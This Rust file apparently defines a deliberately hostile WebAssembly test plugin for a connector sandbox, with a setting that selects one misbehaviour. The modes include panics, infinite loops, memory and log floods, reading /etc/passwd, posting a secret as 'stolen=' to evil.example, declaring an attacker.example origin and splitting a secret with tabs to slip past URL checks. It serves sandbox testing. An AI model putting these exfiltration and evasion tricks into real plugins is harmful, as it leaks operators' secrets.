//! A plugin that misbehaves on purpose. Its `behavior` field picks the misdeed, done
//! in `fetch`:
//!
//! - `panic`: panics with a known message;
//! - `loop`: spins forever; `sleep`: sleeps for an hour (in a host call, where the
//!   host's epoch checks cannot reach it);
//! - `memory`: allocates until it cannot;
//! - `flood`: emits records forever; `log-flood`: logs forever;
//! - `denied-host`: requests a host it was not granted, and reports the refusal;
//! - `exfiltrate`: logs its secret, sends it to a host it was not granted, then to its
//!   granted `target` (an echo server), and logs what came back (and prints a line
//!   to stdout, which the host discards);
//! - `filesystem`: reads and writes files; `sockets`: opens a TCP connection to
//!   `target` directly; both report what happened as an error;
//! - `echo-escapes`: has `target` echo its secret back gzip-compressed (asking with
//!   `Accept-Encoding: gzip`) and as JSON with every character `\u`-escaped,
//!   decodes both and writes them into an asset's tags and its log;
//! - `derive-origin`: its `configure` returns an origin it never declared;
//! - `unbound-origin`: sends its secret to `collector`, a declared origin the
//!   secret is not bound to (it may go to `target` only);
//! - `split-placeholder`: sends its secret's placeholder, split by a tab (then by a
//!   line feed, then in a header), to `collector` in the query and the path, where
//!   a URL parser would join it again after the check; reports every answer;
//! - `incremental-anyway`: answers a request for a full run with an incremental one;
//! - `state-flood`: returns 65 MiB of state from `finish`.
//!
//! With `echo-escapes`, the secret it decoded also goes into the state `finish`
//! returns, where the host must mask it too.
//!
//! It declares `{target}` and `{collector}` as its egress, and binds `secret` to
//! `{target}`.

wit_bindgen::generate!({
    world: "connector-plugin",
    path: "../../../wit",
});

use exports::vulnbridge::connector::connector::Guest;
use std::cell::RefCell;
use vulnbridge::connector::http::{self, Method, Request};
use vulnbridge::connector::log::{log, Level};
use vulnbridge::connector::output;
use vulnbridge::connector::types::{
    Asset, Check, ConfigField, Egress, FieldError, FieldKind, Locators, Page, PluginError, PluginInfo, RunMode,
    RunPlan, RunRequest, Setting,
};

thread_local! {
    /// What `echo-escapes` decoded, for `finish` to put in the state.
    static DECODED: RefCell<String> = const { RefCell::new(String::new()) };
    static SETTINGS: RefCell<Vec<Setting>> = const { RefCell::new(Vec::new()) };
}

fn setting(key: &str) -> String {
    SETTINGS.with_borrow(|s| s.iter().find(|s| s.key == key).map(|s| s.value.clone()).unwrap_or_default())
}

fn field(key: &str, kind: FieldKind, default: Option<&str>) -> ConfigField {
    ConfigField {
        key: key.into(),
        label: key.into(),
        help: format!("The {key} of the misdeed."),
        kind,
        required: false,
        default_value: default.map(Into::into),
        sent_to: if kind == FieldKind::Secret { vec!["{target}".into()] } else { Vec::new() },
        choices: Vec::new(),
    }
}

fn send(
    url: &str,
    headers: Vec<(String, String)>,
    body: String,
) -> Result<vulnbridge::connector::http::Response, String> {
    let request = Request {
        method: Method::Post,
        url: url.into(),
        headers,
        body: Some(body.into_bytes()),
        timeout_ms: Some(5_000),
    };
    http::send(&request).map_err(|e| format!("{e:?}"))
}

/// Undoes JSON's `\uXXXX` escapes (all the echo sends), as a plugin that wanted the
/// secret would.
fn unescape(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("\\u") {
        out.push_str(&rest[..at]);
        let code = u32::from_str_radix(rest.get(at + 2..at + 6).unwrap_or("0"), 16).unwrap_or(63);
        out.push(char::from_u32(code).unwrap_or('?'));
        rest = rest.get(at + 6..).unwrap_or("");
    }
    out.push_str(rest);
    out
}

fn post(url: &str, body: String) -> Result<Vec<u8>, String> {
    let form = vec![("content-type".into(), "application/x-www-form-urlencoded".into())];
    send(url, form, body).map(|r| r.body)
}

/// An asset located by its external id alone.
fn asset(key: &str, hostname: Option<String>, tags: Vec<String>) -> Asset {
    let locators = Locators {
        external_id: Some(key.into()),
        hostname,
        fqdn: None,
        netbios: None,
        ip_address: None,
        mac_address: None,
        url: None,
        application: None,
    };
    Asset { key: key.into(), locators, os: None, os_version: None, tags, last_seen: None }
}

struct Hostile;

impl Guest for Hostile {
    fn info() -> PluginInfo {
        PluginInfo {
            id: "test-hostile".into(),
            name: "Hostile test plugin".into(),
            version: "0.1.0".into(),
            description: "Misbehaves on purpose.".into(),
            scanner_type: "Test".into(),
            fields: vec![
                field("behavior", FieldKind::Text, Some("panic")),
                field("target", FieldKind::Host, Some("example.invalid")),
                field("secret", FieldKind::Secret, None),
                field("collector", FieldKind::Host, None),
                field("note", FieldKind::Text, None),
            ],
            egress: vec![
                Egress { origin: "{target}".into(), purpose: "its API".into() },
                Egress { origin: "{collector}".into(), purpose: "a second API".into() },
            ],
            independent_pages: false,
            section: "Test".into(),
            counters: Vec::new(),
            incremental: true,
        }
    }

    fn start(request: RunRequest) -> Result<RunPlan, PluginError> {
        let mode = if setting("behavior") == "incremental-anyway" { RunMode::Incremental } else { request.mode };
        Ok(RunPlan { mode, reason: None })
    }

    fn finish() -> Result<Option<Vec<u8>>, PluginError> {
        Ok(match setting("behavior").as_str() {
            "state-flood" => Some(vec![b'x'; 65 << 20]),
            "echo-escapes" => Some(format!("decoded: {}", DECODED.with_borrow(String::clone)).into_bytes()),
            _ => None,
        })
    }

    fn configure(settings: Vec<Setting>) -> Result<Vec<String>, Vec<FieldError>> {
        SETTINGS.set(settings);
        if setting("behavior") == "derive-origin" {
            // Widening its egress after the operator reviewed it: refused.
            return Ok(vec!["https://attacker.example".into()]);
        }
        Ok(Vec::new())
    }

    fn verify() -> Result<Vec<Check>, PluginError> {
        Ok(Vec::new())
    }

    fn fetch() -> Result<Option<Page>, PluginError> {
        let target = setting("target");
        match setting("behavior").as_str() {
            // Their misdeeds are in `start` and `finish`.
            "state-flood" | "incremental-anyway" => Ok(None),
            "panic" => panic!("test plugin panics on purpose: row 17 has no id"),
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Ok(None)
            }
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 8 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "flood" => loop {
                let asset = asset("flood", None, Vec::new());
                output::emit_assets(&vec![asset; 10_000]);
            },
            "log-flood" => loop {
                log(Level::Info, "flooding the log");
            },
            "denied-host" => {
                let refused = post("https://evil.example/collect", "x=1".into()).unwrap_err();
                Err(PluginError::Other(format!("request refused: {refused}")))
            }
            "exfiltrate" => {
                let secret = setting("secret");
                // stdout is discarded by the host: this must show up nowhere.
                println!("hostile plugin stdout line");
                log(Level::Warn, &format!("my secret is {secret}"));
                let refused = post("https://evil.example/collect", format!("stolen={secret}")).unwrap_err();
                log(Level::Warn, &format!("evil.example: {refused}"));
                let echoed = post(&format!("{target}/echo"), format!("stolen={secret}"))
                    .map_err(|e| PluginError::Other(format!("echo failed: {e}")))?;
                log(Level::Warn, &format!("echo answered: {}", String::from_utf8_lossy(&echoed)));
                Ok(None)
            }
            "filesystem" => {
                let read = std::fs::read_to_string("/etc/passwd").map(|t| t.len());
                let write = std::fs::write("stolen.txt", "x");
                Err(PluginError::Other(format!("filesystem: read {read:?}, write {write:?}")))
            }
            "sockets" => {
                let address = target.trim_start_matches("http://").trim_end_matches('/').to_string();
                let connect = std::net::TcpStream::connect(address.as_str()).map(|_| "connected");
                Err(PluginError::Other(format!("sockets: connect to {address}: {connect:?}")))
            }
            "echo-escapes" => {
                let secret = setting("secret");
                let gzip = vec![("accept-encoding".to_string(), "gzip".to_string())];
                let zipped = send(&format!("{target}/echo"), gzip, format!("stolen={secret}"))
                    .map_err(|e| PluginError::Other(format!("echo failed: {e}")))?;
                let compressed = zipped.headers.iter().any(|(k, v)| k == "content-encoding" && v.contains("gzip"));
                let mut from_gzip = String::new();
                if compressed {
                    use std::io::Read;
                    flate2::read::GzDecoder::new(&zipped.body[..]).read_to_string(&mut from_gzip).ok();
                } else {
                    from_gzip = String::from_utf8_lossy(&zipped.body).into_owned();
                }
                let escaped = send(&format!("{target}/echo-json"), Vec::new(), format!("stolen={secret}"))
                    .map_err(|e| PluginError::Other(format!("echo failed: {e}")))?;
                let from_json = unescape(&String::from_utf8_lossy(&escaped.body));
                log(Level::Warn, &format!("decoded echoes: {from_gzip} / {from_json}"));
                DECODED.set(format!("{from_gzip} / {from_json}"));
                let asset =
                    asset("echoed", Some(from_gzip.clone()), vec![from_gzip, from_json, format!("raw {secret}")]);
                output::emit_assets(&[asset]);
                output::count(&format!("counted {}", setting("note")), 1);
                Ok(None)
            }
            "unbound-origin" => {
                let secret = setting("secret");
                let collector = setting("collector");
                let refused = send(&format!("{collector}/echo"), Vec::new(), format!("stolen={secret}")).unwrap_err();
                Err(PluginError::Other(format!("collector refused: {refused}")))
            }
            "split-placeholder" => {
                let secret = setting("secret");
                let collector = setting("collector");
                let (head, tail) = secret.split_at(secret.len() / 2);
                let mut answers = Vec::new();
                for sep in ["\t", "\n"] {
                    let url = format!("{collector}/collect/{head}{sep}{tail}?s={head}{sep}{tail}");
                    answers.push(format!("{:?}", send(&url, Vec::new(), String::new()).map(|r| r.status)));
                }
                let header = vec![("x-token".to_string(), format!("{head}\t{tail}"))];
                answers.push(format!(
                    "{:?}",
                    send(&format!("{collector}/collect"), header, String::new()).map(|r| r.status)
                ));
                Err(PluginError::Other(format!("answers: {}", answers.join(" | "))))
            }
            other => Err(PluginError::Other(format!("unknown behavior `{other}`"))),
        }
    }

    fn map(_: Page) -> Result<(), PluginError> {
        Ok(())
    }
}

#[cfg(target_arch = "wasm32")]
export!(Hostile);
